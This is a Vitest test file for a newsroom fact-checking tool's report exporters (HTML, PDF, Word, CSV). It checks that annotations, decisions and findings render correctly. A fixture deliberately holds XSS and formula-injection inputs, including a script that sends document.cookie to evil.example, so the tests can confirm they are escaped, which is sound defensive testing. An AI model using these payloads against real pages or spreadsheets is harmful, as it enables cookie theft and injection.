import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync, readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { beforeAll, describe, expect, it } from 'vitest'
import { parseCsv } from '../../test/csv'
import { readFixture } from '../../test/fixtures'
import { convertWithSoffice, soffice } from '../../test/soffice'
import { analyze } from '../analysis/analyze'
import { buildArticle } from '../article/build'
import { findingKey, textQuote } from '../annotation/review'
import type { Annotation } from '../annotation/types'
import { importBytes } from '../import/index'
import { exportEngines, loadPdfShaper } from '../../main/services/exportPdf'
import { exportStory } from './index'
import { buildReportModel, describe as describeMark } from './model'
import { sampleExportInput } from './sample'
import type { ExportInput } from './types'

// The PDF engine's shaper loads asynchronously, once per process (as the app and the CLI await it before an export).
beforeAll(() => loadPdfShaper())

function reuters(): ExportInput {
  const { articles } = importBytes(readFixture('wire/reuters-putin-lukashenko-aggregator.txt'), 'reuters.txt')
  const article = articles[0]
  if (!article) throw new Error('no article in the Reuters fixture')
  return sampleExportInput(article, analyze(article))
}

function editorNote(text: string, needle: string, note: string, id = 'n1'): Annotation {
  const start = text.indexOf(needle)
  if (start < 0) throw new Error(`not in text: ${needle}`)
  return {
    id,
    storyId: 's',
    versionId: 'v',
    kind: 'note',
    origin: 'editor',
    start,
    end: start + needle.length,
    selector: textQuote(text, start, start + needle.length),
    status: null,
    decision: null,
    speaker: null,
    attribution: null,
    cue: null,
    note,
    evidence: [],
    suggestionId: null,
    anchor: 'exact',
    author: 'Dana <b>Editor</b>',
    createdAt: '2024-05-02T10:00:00Z',
    updatedAt: '2024-05-02T10:00:00Z',
  }
}

/** A story whose text, headline and notes carry markup that must come out as text. */
function hostile(): ExportInput {
  const article = buildArticle({
    format: 'text',
    headline: 'Mayor says <script>alert("x")</script> is "fine" & safe',
    source: 'Wire <img src=x onerror=alert(1)>',
    paragraphs: [
      'The mayor said: "<script>document.location=\'https://evil.example/\'+document.cookie</script> is harmless," on Monday.',
      '=HYPERLINK("https://evil.example","click") and @SUM(A1) and +1 and -2 cost 3 million dollars, the council said.',
    ],
  })
  const analysis = analyze(article)
  const annotations = [
    editorNote(article.text, '<script>document.location', 'Check this <iframe src="https://evil.example"></iframe>'),
    editorNote(article.text, '=HYPERLINK("https://evil.example","click")', '=1+1', 'n2'),
  ]
  annotations[1] = { ...(annotations[1] as Annotation), kind: 'claim', status: 'false', evidence: ['javascript:alert(1)'] }
  return { article, analysis, annotations, dismissed: [], meta: { storyId: 's1', version: '2', checkedBy: 'Sam <Desk>', checkedAt: '2024-05-02T11:00:00Z', review: { state: 'new', by: null, at: null } } }
}

describe('report model', () => {
  it('numbers placed annotations in text order and cuts blocks into runs with the same marks', () => {
    const input = reuters()
    const m = buildReportModel(input.article, input.annotations, input.analysis, input.meta)
    expect(m.annotations.map((a) => a.n)).toEqual(m.annotations.map((_, i) => i + 1))
    for (let i = 1; i < m.annotations.length; i++) expect(m.annotations[i]?.start).toBeGreaterThanOrEqual(m.annotations[i - 1]?.start as number)
    for (const b of m.blocks) {
      expect(b.segments.map((s) => s.text).join('')).toBe(input.article.text.slice(b.start, b.end))
      for (const s of b.segments) {
        for (const n of s.marks) {
          const a = m.annotations[n - 1]
          expect(a && a.start < s.end && a.end > s.start).toBe(true)
        }
      }
    }
    // Every placed annotation ends exactly once (one reference mark each).
    const ends = m.blocks.flatMap((b) => b.segments.flatMap((s) => s.ends))
    expect([...ends].sort((a, b) => a - b)).toEqual(m.annotations.map((a) => a.n))
  })

  it('lets an editor decision replace its suggestion, drops rejected records, and keeps misplaced ones as orphans', () => {
    const input = reuters()
    const speaker = input.annotations.find((a) => a.kind === 'speaker') as Annotation
    const rejected = { ...speaker, id: 'rej', origin: 'editor' as const, decision: 'rejected' as const, suggestionId: speaker.id }
    const stray = { ...editorNote(input.article.text, 'Putin', 'stale'), id: 'stray', start: 5, end: 10, selector: { exact: 'words from an old version', prefix: '', suffix: '' } }
    const m = buildReportModel(input.article, [...input.annotations, rejected, stray], input.analysis, input.meta)
    const ids = m.annotations.map((a) => a.id)
    expect(ids).not.toContain('rej')
    expect(ids).not.toContain(speaker.id)
    // The decision is shown in place of its suggestion, under the suggestion's id (the id the desk's mark carries).
    expect(ids).not.toContain('editor-1')
    const decided = input.annotations.find((a) => a.id === 'editor-1')?.suggestionId
    expect(m.annotations.find((a) => a.id === decided)).toMatchObject({ origin: 'editor', status: 'verified', author: 'Dana Editor' })
    expect(m.orphans.map((o) => o.id)).toEqual(['stray'])
  })
})

describe('report model: the decisions', () => {
  const input = reuters()
  const quotes = input.annotations.filter((a) => a.kind === 'quote' && a.origin === 'auto')
  const [q1, q2] = quotes as [Annotation, Annotation]
  const on = (a: Annotation, id: string, fields: Partial<Annotation>): Annotation => ({
    ...a, id, origin: 'editor', suggestionId: a.id, author: 'Sam Checker', updatedAt: '2026-12-07T13:05:00.000Z', ...fields,
  })
  const finding = input.analysis.findings.find((f) => f.end > f.start) as NonNullable<(typeof input.analysis.findings)[number]>
  const key = findingKey(finding.rule, input.article.text, finding)
  const m = buildReportModel(
    input.article,
    [...input.annotations, on(q1, 'acc', { decision: 'accepted' }), on(q2, 'rej', { decision: 'rejected' })],
    input.analysis,
    { ...input.meta, review: { state: 'in_review', by: 'Sam Checker', at: '2026-12-07T12:00:00.000Z' } },
    [{ key, reason: 'House style allows it.', by: 'Sam Checker', at: '2026-12-07T13:10:00.000Z' }],
  )

  it('shows an accepted quote as accepted, not "unchecked"', () => {
    const a = m.annotations.find((x) => x.id === q1.id)
    expect(q1.status).toBe('unchecked')
    expect(a?.status).toBeNull()
    expect(a?.decided).toEqual({ state: 'accepted', by: 'Sam Checker', at: '2026-12-07T13:05:00.000Z', atText: '7 Dec 2026, 14:05 CET (UTC+01:00)', changes: [], text: 'accepted by Sam Checker, 7 Dec 2026, 14:05 CET (UTC+01:00)' })
    expect(describeMark(a as NonNullable<typeof a>)).not.toContain('unchecked')
  })

  it('lists a rejected suggestion apart, unmarked in the text', () => {
    expect(m.rejected.map((a) => [a.id, a.decided.state])).toEqual([[q2.id, 'rejected']])
    expect(m.annotations.some((a) => a.id === q2.id)).toBe(false)
  })

  it('takes a dismissed finding out of the open ones and keeps its reason, who and when', () => {
    expect(m.findings.some((f) => f.key === key)).toBe(false)
    expect(m.dismissed).toEqual([
      expect.objectContaining({ rule: finding.rule, reason: 'House style allows it.', by: 'Sam Checker', atText: '7 Dec 2026, 14:10 CET (UTC+01:00)' }),
    ])
  })

  it('keeps a dismissal whose words are no longer in the story, with the rule and words of its key', () => {
    const gone = buildReportModel(input.article, input.annotations, input.analysis, input.meta, [
      { key: 'loaded-verb|words an earlier version had', reason: 'Quoted verbatim.', by: null, at: '2026-12-07T13:10:00.000Z' },
    ])
    expect(gone.dismissed).toEqual([
      { rule: 'loaded-verb', severity: null, message: '', excerpt: 'words an earlier version had', reason: 'Quoted verbatim.', by: null, at: '2026-12-07T13:10:00.000Z', atText: '7 Dec 2026, 14:10 CET (UTC+01:00)' },
    ])
  })

  it("counts a suggestion with only a note on it as not reviewed, and keeps it the analysis's in the CSV", () => {
    const q3 = quotes[2] as Annotation
    const noted = on(q3, 'noted', { note: 'Check the wording.', createdAt: '2026-12-07T13:20:00.000Z' })
    const before = buildReportModel(input.article, input.annotations, input.analysis, input.meta)
    const after = buildReportModel(input.article, [...input.annotations, noted], input.analysis, input.meta)
    expect(after.summary.openSuggestions).toBe(before.summary.openSuggestions)
    const row = after.annotations.find((a) => a.id === q3.id)!
    expect(row).toMatchObject({ suggested: true, note: 'Check the wording.', createdAt: q3.createdAt })
    expect(row.decided.state).toBe('open')
    const csv = exportStory('csv', { ...input, annotations: [...input.annotations, noted] }) as string
    const [header, ...rows] = parseCsv(csv) as [string[], ...string[][]]
    const line = rows.find((r) => r.includes('Check the wording.'))!
    expect(line[header.indexOf('origin')]).toBe('auto')
    expect(line[header.indexOf('created')]).toBe(q3.createdAt)
  })

  it('sums up what is open and what was decided, and says the review state', () => {
    expect(m.summary.decidedText).toBe('Decided: 1 accepted, 1 rejected, 2 edited, 2 marks added by the editor, 1 check dismissed.')
    expect(m.summary.openText).toMatch(/^Open: \d+ checks \(.+\), \d+ suggestions not reviewed\.$/)
    expect(m.review.text).toBe('In review (set by Sam Checker, 7 Dec 2026, 13:00 CET (UTC+01:00))')
  })
})

describe('HTML report', () => {
  it('is one self-contained page: inline CSS, no scripts, nothing remote', () => {
    const html = exportStory('html', reuters()) as string
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true)
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(|src=/i)
    expect(html).toContain("default-src 'none'")
    expect(html).toMatch(/<style>[\s\S]*mark\.k-quote/)
  })

  it('shows the legend, quotes with speakers, claims with status/evidence/notes, margin notes, findings, credits, source, version and checker', () => {
    const input = reuters()
    const html = exportStory('html', input) as string
    // The desk's words for the kinds: a speaker mark is a Person there and here.
    for (const [kind, label] of [['quote', 'Quote'], ['claim', 'Claim'], ['speaker', 'Person'], ['credit', 'Credit'], ['note', 'Note']]) {
      expect(html).toMatch(new RegExp(`class="sw k-${kind}"></span>${label}`))
    }
    expect(html).toMatch(/<td>“We know the situation in Belarus[^<]*”<\/td><td>Vladimir Putin<\/td>/)
    expect(html).toContain('<a href="https://example.org/source-document">')
    expect(html).toContain('verified')
    expect(html).toContain('Checked against the filing.')
    expect(html).toMatch(/<aside class="margin">(<p>.*?<\/p>)*<p><span class="tag k-note">\d+<\/span> Ask the reporter for the second source\./)
    expect(html).toMatch(/Open findings \(\d+ errors, \d+ warnings, \d+ notes\)/)
    expect(html).toContain('<td>Reporting</td><td>Vladimir Soldatkin</td>')
    expect(html).toContain('<dt>Source</dt><dd>Reuters</dd>')
    expect(html).toContain('<dt>Version</dt><dd>1</dd>')
    expect(html).toContain('<dt>Checked by</dt><dd>Dana Editor</dd>')
    expect(html).toContain('<dt>Checked at</dt><dd>2 May 2024, 13:00 CEST (UTC+02:00)</dd>')
    expect(html).toContain('<dt>Review state</dt><dd>Checked (set by Dana Editor, 2 May 2024, 13:00 CEST (UTC+02:00))</dd>')
    // Every story word is there, in order, once the marks are taken away.
    const story = /<article[^>]*>([\s\S]*)<\/article>/.exec(html)?.[1] ?? ''
    const plain = story.replace(/<sup[^>]*>\d+<\/sup>/g, '').replace(/<aside[\s\S]*?<\/aside>/g, '').replace(/<[^>]+>/g, '')
    expect(plain.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/\s+/g, ' ').trim()).toBe(
      input.article.text.replace(/\s+/g, ' '),
    )
  })

  it('exports a story containing <script> as text, and escapes notes, names and links', () => {
    const html = exportStory('html', hostile()) as string
    const unmarked = html.replace(/<\/?mark[^>]*>|<sup[^>]*>\d+<\/sup>/g, '')
    expect(html).not.toMatch(/<script|<iframe|<img|<b>|javascript:alert\(1\)"/i)
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;')
    expect(unmarked).toContain('&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;')
    expect(html).toContain('Check this &lt;iframe src=&quot;https://evil.example&quot;&gt;&lt;/iframe&gt;')
    expect(html).toContain('Sam &lt;Desk&gt;')
    expect(html).not.toContain('href="javascript:')
  })
})

function pdfTools(): { ppm: boolean; text: boolean } {
  const has = (cmd: string) => spawnSync(cmd, ['-v'], { encoding: 'utf8' }).error === undefined
  return { ppm: has('pdftoppm'), text: has('pdftotext') }
}

describe('PDF report', () => {
  const tools = pdfTools()
  const dir = mkdtempSync(join(tmpdir(), 'wiremark-pdf-'))

  it('is a well-formed PDF', () => {
    const pdf = exportStory('pdf', reuters(), exportEngines) as Uint8Array
    const head = strFromU8(pdf.subarray(0, 8), true)
    expect(head).toBe('%PDF-1.7')
    const tail = strFromU8(pdf.subarray(pdf.length - 40), true)
    const startxref = Number(/startxref\n(\d+)\n%%EOF/.exec(tail)?.[1])
    expect(strFromU8(pdf.subarray(startxref, startxref + 4), true)).toBe('xref')
  })

  it.skipIf(!tools.text)('reads back with the report text (pdftotext, from poppler-utils)', () => {
    const file = join(dir, 'reuters.pdf')
    writeFileSync(file, exportStory('pdf', reuters(), exportEngines) as Uint8Array)
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' })
    for (const s of ['Putin says Lukashenko should start dialogue', 'Checked by Dana Editor', 'Legend:', 'Quotes (4)', 'Vladimir Soldatkin', 'Ask the reporter for the second', 'page 1 of']) {
      expect(text.replace(/\s+/g, ' ')).toContain(s)
    }
  })

  it.skipIf(!tools.ppm)('renders to PNG pages with pdftoppm (poppler-utils)', () => {
    const file = join(dir, 'render.pdf')
    writeFileSync(file, exportStory('pdf', reuters(), exportEngines) as Uint8Array)
    const r = spawnSync('pdftoppm', ['-r', '60', '-png', file, join(dir, 'page')], { encoding: 'utf8' })
    expect(r.status).toBe(0)
    expect(r.stderr).toBe('') // poppler reports broken streams and xref tables on stderr
    const pngs = readdirSync(dir).filter((f) => f.startsWith('page') && f.endsWith('.png'))
    expect(pngs.length).toBeGreaterThanOrEqual(2)
    const png = readFileSync(join(dir, pngs.sort()[0] as string))
    expect([...png.subarray(1, 4)]).toEqual([0x50, 0x4e, 0x47])
  })

  it.skipIf(!tools.text)('breaks long stories over pages and draws every script it ships fonts for, with nothing replaced (pdftotext)', () => {
    const para = 'Officials said the figure rose by 12 percent in 2023, the highest on record, according to the ministry. '
    const article = buildArticle({
      format: 'text',
      headline: 'Łódź and Kraków: “Ми переможемо,” he said — מחר',
      paragraphs: [...Array.from({ length: 40 }, () => para.repeat(3)), 'Zürich café: “déjà vu” – Œuvre № 5 ½, Αθήνα, 北京.'],
    })
    const input = sampleExportInput(article, analyze(article))
    const pdf = exportStory('pdf', input, exportEngines) as Uint8Array
    const file = join(dir, 'long.pdf')
    writeFileSync(file, pdf)
    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' }).replace(/[\u202a-\u202e]/g, '')
    const pages = Number(/page 1 of (\d+)/.exec(text)?.[1])
    expect(pages).toBeGreaterThanOrEqual(4)
    expect(text).toContain('Łódź and Kraków: “Ми переможемо,” he said — מחר')
    expect(text).toContain('Zürich café: “déjà vu” – Œuvre № 5 ½, Αθήνα, 北京')
    expect(text).not.toMatch(/empty box|cannot be drawn/)
  })

  it.skipIf(!tools.text)('counts the characters no shipped font draws and says so on the first page (pdftotext)', () => {
    const article = buildArticle({ format: 'text', headline: 'Bangkok: สวัสดี', paragraphs: ['The minister said สวัสดี twice.'] })
    const pdf = exportStory('pdf', sampleExportInput(article, analyze(article)), exportEngines) as Uint8Array
    const file = join(dir, 'thai.pdf')
    writeFileSync(file, pdf)
    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ')
    // Five Thai letters in the headline, the story, the footer's title and the excerpts of the findings.
    expect(text).toMatch(/\d+ characters in this report are in a script the fonts Wiremark ships do not cover/)
  })
})

describe('Word report', () => {
  const input = reuters()
  const docx = exportStory('docx', input) as Uint8Array
  const files = unzipSync(docx)
  const doc = strFromU8(files['word/document.xml'] as Uint8Array)
  const comments = strFromU8(files['word/comments.xml'] as Uint8Array)
  const model = buildReportModel(input.article, input.annotations, input.analysis, input.meta)
  const unxml = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&')

  it('is a package with the parts and relationships Word needs', () => {
    expect(Object.keys(files).sort()).toEqual(
      ['[Content_Types].xml', '_rels/.rels', 'docProps/core.xml', 'word/_rels/document.xml.rels', 'word/comments.xml', 'word/document.xml', 'word/styles.xml'].sort(),
    )
    expect(strFromU8(files['[Content_Types].xml'] as Uint8Array)).toContain('PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"')
    expect(strFromU8(files['word/_rels/document.xml.rels'] as Uint8Array)).toContain('relationships/comments" Target="comments.xml"')
  })

  it('has one comment per annotation and per open finding, anchored around exactly their words', () => {
    const ids = [...comments.matchAll(/<w:comment w:id="(\d+)"/g)].map((m) => Number(m[1]))
    expect(model.findings.length).toBeGreaterThan(0)
    expect(ids).toEqual([...model.annotations.map((a) => a.n), ...model.findings.map((_, i) => model.annotations.length + i + 1)])
    const covered = new Map<number, string>()
    const open = new Set<number>()
    for (const m of doc.matchAll(/<w:commentRangeStart w:id="(\d+)"\/>|<w:commentRangeEnd w:id="(\d+)"\/>|<w:t[^>]*>([^<]*)<\/w:t>|<\/w:p>/g)) {
      if (m[1]) open.add(Number(m[1]))
      else if (m[2]) open.delete(Number(m[2]))
      else
        for (const id of open) covered.set(id, (covered.get(id) ?? '') + (m[3] !== undefined ? unxml(m[3]) : '\n\n'))
    }
    expect(open.size).toBe(0)
    for (const a of model.annotations) {
      expect(covered.get(a.n), `comment ${a.n}`).toBe(a.exact)
      expect(doc).toContain(`<w:commentReference w:id="${a.n}"/>`)
    }
    model.findings.forEach((f, i) => {
      const id = model.annotations.length + i + 1
      const words = f.end > f.start ? input.article.text.slice(f.start, f.end) : input.article.blocks[0]?.text
      expect(covered.get(id), `finding comment ${id}`).toBe(words)
    })
  })

  it('gives each comment its author, date, kind, speaker, status and note', () => {
    const claim = /<w:comment w:id="\d+" w:author="Dana Editor" w:date="2024-05-02T10:15:00Z" w:initials="DE">(.*?)<\/w:comment>/.exec(comments)?.[1] ?? ''
    expect(claim).toContain('Claim · source: Vladimir Putin · status: verified')
    expect(claim).toContain('Note: Checked against the filing.')
    expect(claim).toContain('Evidence: https://example.org/source-document')
    expect(comments).toMatch(/w:author="wiremark \(suggestion\)" w:date="2024-05-02T09:30:00Z"/)
    expect(comments).toContain('Quote · speaker: Vladimir Putin · status: confirmed')
    expect(claim).toContain('<w:t xml:space="preserve">Decision: edited by Dana Editor, 2 May 2024, 12:15 CEST (UTC+02:00) (status: unverified to verified; evidence added)</w:t>')
    expect(comments).toContain('<w:t xml:space="preserve">Decision: suggested by the analysis, not reviewed</w:t>')
  })

  it('escapes markup in the story and drops characters XML cannot carry', () => {
    const h = hostile()
    const bad = { ...h, article: { ...h.article, headline: 'Bell\u0007 and <b>bold</b>' } }
    const x = strFromU8(unzipSync(exportStory('docx', bad) as Uint8Array)['word/document.xml'] as Uint8Array)
    expect(x).not.toMatch(/<script|<b>/)
    expect(x).not.toContain('\u0007')
    expect(x).toContain('&lt;script&gt;document.location')
  })

  it.skipIf(!soffice)('opens in LibreOffice with the comments intact (libreoffice-writer-nogui)', () => {
    const content = strFromU8(unzipSync(convertWithSoffice(docx, 'report.docx', 'odt'))['content.xml'] as Uint8Array)
    const annotations = content.match(/<office:annotation[ >]/g) ?? []
    expect(annotations.length).toBe(model.annotations.length + model.findings.length)
    expect(content).toContain('Checked against the filing.')
    expect(content).toContain('<dc:creator>Dana Editor</dc:creator>')
    expect(content).toContain('Decision: edited by Dana Editor, 2 May 2024, 12:15 CEST (UTC+02:00) (status: unverified to verified; evidence added)')
    expect(content).toContain(model.findings[0]?.request.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;'))
  })
})
